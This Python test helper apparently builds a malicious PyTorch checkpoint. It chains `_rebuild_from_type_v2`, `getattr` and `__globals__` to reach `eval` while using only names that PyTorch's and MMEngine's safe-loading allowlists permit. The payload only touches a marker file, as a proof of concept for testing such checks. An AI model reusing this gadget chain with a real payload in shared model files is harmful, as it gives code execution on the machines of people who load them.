"""A run's state that would run code where a reader takes PyTorch's and MMEngine's lists of names for safe."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import torch


class Called:
    """Pickled as the call of a function."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.call


def program(marker: Path) -> Called:
    """Touches `marker` when it is unpickled, by names of both lists alone: `_rebuild_from_type_v2` calls what it is
    given, and `getattr` reaches `eval` from any function."""
    rebuild = torch._tensor._rebuild_from_type_v2
    names = Called(getattr, torch._utils._rebuild_tensor_v2, "__globals__")
    dictionary, builtin = Called(getattr, names, "__class__"), Called(getattr, getattr, "__class__")
    builtins = Called(rebuild, Called(getattr, names, "__getitem__"), dictionary, ("__builtins__",), {})
    evaluate = Called(rebuild, Called(getattr, builtins, "__getitem__"), builtin, ("eval",), {})
    text = f"[__import__('pathlib').Path({str(marker)!r}).touch(), getattr][1]"
    return Called(rebuild, evaluate, builtin, (text,), {})


def crafted_state(path: Path, marker: Path) -> Path:
    """A last.pth with such a program in it."""
    content = {"state_dict": {"a": torch.ones(2)}, "optimizer": {}, "meta": {"epoch": 1, "iter": 1}, "message_hub": {}}
    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save({**content, "more": program(marker)}, path)
    return path
